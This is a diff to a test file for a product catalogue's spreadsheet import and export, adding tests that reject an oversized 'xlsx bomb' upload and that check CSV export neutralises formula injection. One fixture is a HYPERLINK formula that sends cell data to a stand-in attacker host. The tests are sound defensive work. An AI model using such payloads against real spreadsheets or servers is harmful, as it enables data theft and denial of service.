@@ -3,7 +3,9 @@ import path from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createTestApp, type TestApp } from '../../../../test/support/test-app.ts';
+import { aCertificate, aProducer, aProduct } from '../../../../test/support/catalogue-fixtures.ts';
 import { databaseFingerprint } from '../../../../test/support/database-fingerprint.ts';
+import { xlsxBomb } from '../../../../test/support/hostile-spreadsheets.ts';
 
 const exampleDir = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../import/example');
 const xlsx = fs.readFileSync(path.join(exampleDir, 'ocop-products-example.xlsx'));
@@ -107,5 +109,27 @@ describe('importing an official list', () => {
   it('refuses a file that is not a spreadsheet', async () => {
     const response = await upload(Buffer.from('%PDF-1.4 not a list'), 'list.xlsx');
     expect(response.statusCode).toBe(422);
+  });
+
+  // The row limit is the engine's (spreadsheet-engine.test.ts); here: a limit is a 413 for the uploader.
+  it('refuses files past its limits with 413 and the limit, writing nothing', async () => {
+    const before = await databaseFingerprint(t.database);
+    const bomb = await upload(xlsxBomb(128 * 1024 * 1024), 'bomb.xlsx');
+    expect(bomb.statusCode).toBe(413);
+    expect(bomb.json().error).toMatchObject({ code: 'entry_too_large', message: expect.stringContaining('64 MB') as string });
+    const declared = await upload('x', 'big.csv', false, { 'content-length': String(26 * 1024 * 1024) });
+    expect(declared.statusCode).toBe(413);
+    expect(declared.json().error.code).toBe('file_too_large');
+    expect(await databaseFingerprint(t.database)).toEqual(before);
+  });
+
+  it('exports names that a spreadsheet would run as formulas as plain text', async () => {
+    const producer = await aProducer(t.database, { name: 'Hộ kinh doanh =Thử' });
+    const product = await aProduct(t.database, producer.id, { vi: '=HYPERLINK("http://evil.example/steal?d="&B3,"Xem chi tiết")', en: '@SUM(A1)' });
+    await aCertificate(t.database, product.id);
+    const csvFile = (await t.request('organizer', { method: 'GET', url: '/api/catalogue/export?format=csv&q=hyperlink' })).body;
+    expect(csvFile).toContain(`"'=HYPERLINK(""http://evil.example`);
+    expect(csvFile).toContain("'@SUM(A1)");
+    expect(csvFile).not.toMatch(/(^|,)=HYPERLINK/m);
   });
 });
